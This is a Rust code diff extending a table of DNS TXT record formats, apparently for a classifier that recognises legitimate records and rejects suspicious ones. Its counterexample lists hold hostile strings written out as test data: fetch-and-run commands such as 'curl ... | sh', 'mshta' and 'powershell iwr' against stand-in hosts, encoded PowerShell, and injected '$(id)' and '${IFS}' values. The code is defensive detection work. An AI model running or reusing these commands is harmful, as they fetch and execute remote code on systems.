@@ -21,7 +21,7 @@ const HOSTS: &str = "labels of host names";
 const PATH: &str = "a path";
 
 #[rustfmt::skip] // one line a part reads like a table
-pub(super) static TYPES: [Type; 44] = [
+pub(super) static TYPES: [Type; 46] = [
     // ---- routing and registries
     form("asn_origin", Infrastructure, r"(?:[0-9]{1,10} ){1,6}\| (?:{ip4}|{ip6})/[0-9]{1,3} \| (?:[A-Z]{2}|NA)? ?\| (?:[a-z]{4,8}|NA)? ?\|(?: (?:{date}|NA)?)?",
         &["64496 | 192.0.2.0/24 | US | arin | 2001-02-03", "64496 64497 | 2001:db8::/32 | NA | NA | NA"],
@@ -38,7 +38,10 @@ pub(super) static TYPES: [Type; 44] = [
     form("trust_anchor", Infrastructure, r"\. [0-9]{1,5}(?: [0-9]{1,5}){0,3}", &[". 20326 38696"], &[". x"], "", "unbound(8), trustanchor.unbound"),
     form("version", Infrastructure, r"(?:(?:v|version|dnsmasq|unbound|NSD|Knot DNS|BIND|PowerDNS (?:Authoritative Server|Recursor)|CoreDNS|Microsoft DNS)[ =:-]?)?[0-9]{1,4}(?:\.[0-9]{1,5}){1,4}(?:[-+][A-Za-z0-9.]{1,14}){0,2}",
         &["9.18.28-0ubuntu0.22", "dnsmasq-2.90", "unbound 1.19.2", "1.1.0"], &["9.18.28 d2hvYW1p", "dnsmasq-x", "1.0-SQBFAFgAIAAoAE4AZQB3AC0A"], "two words of 14 characters", "RFC 4892, version.bind"),
-    form("domain_connect", Infrastructure, r"(?:api\.|_)?domainconnect\.{host}(?:/v2)?", &["api.domainconnect.example.com/v2"], &["domainconnect."], HOSTS, "https://www.domainconnect.org/"),
+    form("domain_connect", Infrastructure, r"(?:api\.|_)?domainconnect\.{host}(?:/v2)?|{host}/(?:[a-z0-9.]{1,16}/){1,5}domain-?connect", &["api.domainconnect.example.com/v2", "api.example.com/client/v4/dns/domainconnect"], &["domainconnect.", "api.example.com/d2hvYW1p"], HOSTS, "https://www.domainconnect.org/"),
+    form("mongodb_srv", Infrastructure, "(?:authSource|replicaSet|loadBalanced)={an}[A-Za-z0-9_-]{0,39}(?:&(?:authSource|replicaSet|loadBalanced)={an}[A-Za-z0-9_-]{0,39}){0,2}", &["authSource=admin&replicaSet=atlas-1a2b3c-shard-0"],
+        &["authSource=admin&x=d2hvYW1p", "replicaSet=$(id)"], "names of 40 characters", "https://www.mongodb.com/docs/manual/reference/connection-string/"),
+    form("dnsmasq_servers", Infrastructure, "{ip4}#[0-9]{1,5} [0-9]{1,10} [0-9]{1,10}(?: {ip4}#[0-9]{1,5} [0-9]{1,10} [0-9]{1,10}){0,9}", &["192.0.2.53#53 1204 3"], &["192.0.2.53#53 x"], "", "dnsmasq(8), servers.bind"),
     form("office_tenant", Infrastructure, r"NETORG(?:FT)?[0-9]{5,9}\.onmicrosoft\.com", &["NETORGFT1234567.onmicrosoft.com"], &["NETORGx.onmicrosoft.com"], "", "seen in public zones"),
     form("kerberos_realm", Infrastructure, r"(?:[A-Z0-9][A-Z0-9-]{0,30}\.){1,4}[A-Z]{2,12}|LKDC:SHA1\.{HEX}{40}", &["CORP.EXAMPLE.COM", "LKDC:SHA1.0C7E3F5219AB4D0E8F435B6A7C8D9E0F0C7E3F52"], &["CORP", "CORP.example.COM"], HOSTS, "krb5.conf(5)"),
     form("host_list", Infrastructure, r"{host}\.?(?:[ ,;]{1,2}{host}\.?)*", &["ns1.example.net", "a.example.net,b.example.net"], &["localhost", "a.example.net d2hvYW1p", "a..example.net"], HOSTS, "RFC 1123"),
@@ -56,28 +59,28 @@ pub(super) static TYPES: [Type; 44] = [
     form("update_note", Infrastructure, r"(?:emails|phishing)\.[0-9]{4}-[0-9]{1,3}A?\.[0-9]{1,2}|count=[0-9]{1,4}|[0-9]{7}", &["emails.2012-15A.4", "count=50", "1907730"], &["count=x"], "", "https://spamassassin.apache.org/, push.apple.com"),
     // ---- reputation
     form("dnsbl", Reputation, r"(?:(?:{ip4}|[A-Za-z0-9][A-Za-z0-9./-]{0,31})[,:]? ){0,8}[A-Za-z/]{0,12}(?i:block|listed|spam|infected|exploit|dynamic|proxy|hijack|refused|resolver|brute|reputation|compromised|policy|snowshoe|phishing|test)[A-Za-z/]{0,10}[.,:;]{0,2}(?: (?:[A-Za-z0-9][A-Za-z0-9./-]{0,19}|-)[.,:;]?){0,8} <?{url}>?(?: for more information)?(?: \[Your DNS IP: {ip4}\])?",
-        &["Blocked - see https://www.spamcop.net/bl.shtml?192.0.2.4", "Exploitable Server See: http://www.sorbs.net/lookup.shtml?192.0.2.4"], &["Blocked d2hvYW1p", "powershell -enc d2hvYW1p", "curl -s http://192.0.2.4/a | sh", "mshta http://192.0.2.4/a.hta"], "words and a path", "RFC 5782"),
+        &["Blocked - see https://www.spamcop.net/bl.shtml?192.0.2.4", "Exploitable Server See: http://www.sorbs.net/lookup.shtml?192.0.2.4"], &["Blocked d2hvYW1p", "powershell -enc d2hvYW1p", "curl -s http://192.0.2.4/a | sh", "mshta http://192.0.2.4/a.hta", "powershell policy http://evil.example/a.ps1"], "words and a path", "RFC 5782"),
     form("malware_hash", Reputation, "[0-9]{10} [0-9]{1,3}", &["1277221946 79"], &["1277221946 x"], "", "https://www.team-cymru.com/mhr"),
     form("tor_exit", Reputation, "N:[A-Za-z0-9]{1,19}/P:[0-9]{1,5}(?:,[0-9]{1,5})*/F:[A-Z]{1,10}", &["N:example/P:443,80/F:EFHRSV"], &["N:a b/P:1/F:E"], "a nickname of 19 characters", "https://www.dan.me.uk/dnsbl"),
     // ---- identity and peer to peer
-    form("did", Identity, "did=did:(?:plc:{b32}{24}|web:{host})", &["did=did:plc:q2w3e4r5t6y7q2w3e4r5t6y7"], &["did=did:plc:d2hvYW1p", "did=did:key:z6Mk"], HOSTS, "https://atproto.com/specs/handle"),
-    form("dnslink", Identity, "dnslink=/(?:ipfs/(?:Qm{b58}{44}|baf{b32}{50,60})|ipns/(?:k51{low}{59}|{host}))(?:/[!-~]{0,80})?", &["dnslink=/ipfs/bafybeidq2w3e4r5t6y7q2w3e4r5t6y7q2w3e4r5t6y7q2w3e4r5t6y7q2"], &["dnslink=/ipfs/d2hvYW1p", "dnslink=x"], "a content identifier", "https://dnslink.dev/"),
+    form("did", Identity, "did=did:(?:plc:{b32}{24}|web:{host})", &["did=did:plc:q2w3e4r5t6y7q2w3e4r5t6y7"], &["did=did:plc:d2hvYW1p", "did=did:key:z6Mk"], "an identifier of 24 characters, or labels of host names", "https://atproto.com/specs/handle"),
+    form("dnslink", Identity, "dnslink=/(?:ipfs/(?:Qm{b58}{44}|baf{b32}{50,60})|ipns/(?:k51{low}{59}|{host})|swarm/{hex}{64}|arweave/{url64}{43})(?:/[!-~]{0,80})?", &["dnslink=/ipfs/bafybeidq2w3e4r5t6y7q2w3e4r5t6y7q2w3e4r5t6y7q2w3e4r5t6y7q2"], &["dnslink=/ipfs/d2hvYW1p", "dnslink=x"], "a content identifier", "https://dnslink.dev/"),
     form("dnsaddr", Identity, "dnsaddr=/(?:ip4/{ip4}|ip6/{ip6}|(?:dns|dns4|dns6|dnsaddr)/{host})(?:/[a-z0-9-]{1,12}(?:/[0-9]{1,5})?){0,5}/p2p/(?:Qm{b58}{44}|12D3KooW{b58}{44})", &["dnsaddr=/ip4/192.0.2.1/tcp/4001/p2p/QmaCpDMGvV2BGHeYERUEnRQAwe3N8SzbUtfsmvsqQLuvuJ"], &["dnsaddr=/ip4/192.0.2.1/tcp/4001/p2p/x"], "a peer identifier", "https://github.com/multiformats/multiaddr/blob/master/protocols/DNSADDR.md"),
     form("enr", Identity, "enr:-{url64}{120,200}", &["enr:-KG4QOtcP9X1FbIMOe17QNMKqDxCpm14jcX5tiOE4_TyMrFqbmhPZHK_ZPG2Gxb1GE2xdtodOfx9-cgvNtxnRyHEmC0ghGV0aDKQ9aX9QgAAAAD__________4JpZIJ2NIJpcIQDE8KdiXNlY3AyNTZrMaEDhpehBDbZjM_L9ek699Y7vhUJ-eAdMyQW_Fil522Y0f"], &["enr:-x"], "a record of 200 characters", "EIP-778"),
     form("enrtree", Identity, "enrtree-root:v1 e={B32}{26} l={B32}{26} seq=[0-9]{1,6} sig={url64}{87}|enrtree-branch:{B32}{26}(?:,{B32}{26}){0,12}|enrtree://{B32}{53}@{host}", &["enrtree-branch:QWERTYUIOPASDFGHJKLZXCVBNM,QWERTYUIOPASDFGHJKLZXCVBNM"], &["enrtree-branch:x", "enrtree-root:v1 e=x"], "digests", "EIP-1459"),
     form("keyoxide", Identity, "aspe:keyoxide\\.org:{B32}{26}|openpgp4fpr:{Hex}{40}|v=pka1;fpr={HEX}{40}(?:;uri={url})?", &["openpgp4fpr:0c7e3f5219ab4d0e8f435b6a7c8d9e0f0c7e3f52"], &["openpgp4fpr:0c7e", "openpgp4fpr:d2hvYW1p"], "a fingerprint", "https://docs.keyoxide.org/"),
     form("openalias", Identity, "oa1:[a-z]{3,4} recipient_address={an}{26,110};(?: ?(?:recipient_name|tx_description|tx_amount|address_signature|checksum)=[^;]{0,80};?)*", &["oa1:btc recipient_address=1BoatSLRHtKNngkdXEeobR76b53LETtpyT; recipient_name=Example;"], &["oa1:btc recipient_address=x;"], "an address and a name", "https://openalias.org/"),
-    form("bitcoin", Identity, "bitcoin:{an}{0,90}\\?[a-z]{2,4}={low}{20,600}(?:&[a-z]{2,4}={low}{1,600})*|lightning:lnurl1{low}{50,200}", &["bitcoin:?lno=lno1q2w3e4r5t6y7u8q2w3e4r5t6y7u8"], &["bitcoin:x"], "an address", "BIP 353"),
+    form("bitcoin", Identity, "bitcoin:(?:bc1{low}{11,87}|[13]{b58}{25,34})|bitcoin:{an}{0,90}\\?[a-z]{2,4}={low}{20,600}(?:&[a-z]{2,4}={low}{1,600})*|lightning:lnurl1{low}{50,200}", &["bitcoin:?lno=lno1q2w3e4r5t6y7u8q2w3e4r5t6y7u8"], &["bitcoin:x"], "an address", "BIP 353"),
     form("minisign", Identity, "RWQ{b64}{53}", &["RWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3"], &["RWQx"], "a key", "https://jedisct1.github.io/minisign/"),
     form("ssh_key", Identity, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{b64}{43}(?: [!-~]{1,64})?|SHA256:{b64}{43}", &["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ops@web"], &["ssh-ed25519 d2hvYW1p"], "a key", "RFC 8709"),
     form("xmpp", Identity, "_xmpp-client-(?:xbosh|websocket|httppoll)=(?:https?|wss?)://{host}(?::[0-9]{1,5})?/[!-~]{0,80}", &["_xmpp-client-xbosh=https://example.org:5280/http-bind"], &["_xmpp-client-xbosh=d2hvYW1p"], PATH, "XEP-0156"),
     form("agent", Identity, "v=aid1;u=https://{host}(?:/[!-:<-~]{0,80})?(?:;p=(?:mcp|a2a|openapi))?(?:;a=[a-z0-9_]{1,20})?(?:;s=[A-Za-z0-9 ]{1,60})?;?", &["v=aid1;u=https://api.example.com/mcp;p=mcp;a=pat;s=Example"], &["v=aid1", "v=aid1;d=powershell -nop -enc SQBFAFgA"], "a description", "https://aid.agentcommunity.org/"),
     form("security_contact", Identity, "security_(?:contact|policy)=(?:mailto:{mail}|{url})", &["security_contact=mailto:security@example.com"], &["security_contact=d2hvYW1p"], PATH, "https://dnssecuritytxt.org/"),
-    form("ens", Identity, "(?:a=|ENS1 {host} )0x{Hex}{40}|ENS1 {host}", &["a=0x0c7e3f5219ab4d0e8f435b6a7c8d9e0f0c7e3f52"], &["a=0x1"], "an address", "https://docs.ens.domains/learn/dns"),
+    form("ens", Identity, "(?:a=|ENS1 (?:{host}|0x{Hex}{40}) )0x{Hex}{40}|ENS1 {host}", &["a=0x0c7e3f5219ab4d0e8f435b6a7c8d9e0f0c7e3f52"], &["a=0x1"], "an address", "https://docs.ens.domains/learn/dns"),
     // ---- devices
     Type { name: "dns_sd", group: Device, check: Rule(dns_sd),
         examples: &["txtvers=1qtotal=1rp=printers/frontty=Example LaserJetadminurl=http://printer.local./pdl=application/pdf", "model=MacBookPro18,3osxvers=23", "VERSION=1.0CPath=/zcStack=SP"],
-        counter: &["txtvers=1", "v=DKIM1; k=rsa; p=TVqQAAMAAAAEAAAA", "t=ping;id=12;d=TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAA", "data=TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAA", "model=x d2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1p"],
+        counter: &["txtvers=1", "v=DKIM1; k=rsa; p=TVqQAAMAAAAEAAAA", "t=ping;id=12;d=TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAA", "data=TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAA", "path=/bin/sh -c curl${IFS}evil.example", "msg=powershell -enc aQBlAHgAid=4", "model=x d2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1p"],
         room: "values of known keys", reference: "RFC 6763" },
     Type { name: "dnscrypt_cert", group: Device, check: Rule(dnscrypt_certificate),
         examples: &["DNSC\0\u{1}\0\0____________signature_of_64_bytes_______________________________public_key_of_32_bytes__________magic___serialfromto"],
@@ -87,7 +90,7 @@ pub(super) static TYPES: [Type; 44] = [
     form("url", Http, "{url}", &["https://example.net/a?b=c#d", "http://example.net"], &["https://localhost/", "https://example.net/ d2hvYW1p", "ftp://example.net/"], PATH, "RFC 3986"),
     form("redirect", Http, "(?:v=txtv[0-9]; ?)?(?:ALIAS for {host}|[1-9a-z]\\|(?:{host}|{url}|[a-z]{2,8})|(?:to|to=|Redirects to |redirect[ =:]) ?{url}(?:; ?(?:type|code)=[a-z0-9]{1,10})?)", &["1|www.example.fr", "ALIAS for edge.example.net"], &["1|d2hvYW1pd2hvYW1p"], PATH, "OVH, DNSimple, redirect services"),
     form("parking", Text, "(?i:this (?:domain|site|name|website)|domain|diese domain|ce (?:nom de )?domaine|este dominio|questo dominio)(?: (?:[^\\x00-\\x20\\x21-\\x26=\\x7f]{1,16})){1,6}[.!]?(?: -)?(?: [^\\x00-\\x20=\\x7f]{1,100}){0,8}", &["This domain is parked", "Diese Domain steht zum Verkauf", "This domain is for sale - contact sales@example.net"],
-        &["This domain", "parked", "Domain: powershell -enc d2hvYW1p=", "this domain TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAA"], "a sentence", "parking services"),
+        &["This domain", "parked", "this domain runs powershell iwr evil.example/a", "Domain: powershell -enc d2hvYW1p=", "this domain TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAA"], "a sentence", "parking services"),
 ];
 
 /// Keys of DNS-SD TXT records, as their service types define them; strings are joined without a gap.
@@ -100,6 +103,10 @@ fn dns_sd(bytes: &[u8]) -> bool {
     let mut starts: Vec<usize> = text.match_indices('=').filter_map(|(at, _)| key_before(text, at)).collect();
     starts.dedup();
     let (Some(0), Some(last)) = (starts.first().copied(), starts.last().copied()) else { return false };
+    // No device announces a command.
+    if crate::content::acts(text).is_some() || text.contains(['`', '$']) {
+        return false;
+    }
     let short = starts.iter().zip(starts.iter().skip(1)).all(|(one, next)| next - one <= LONGEST_PAIR) && text.len() - last <= LONGEST_PAIR;
     // A pair or two alone is a claim that anybody can make; a few keys stand alone in practice.
     short
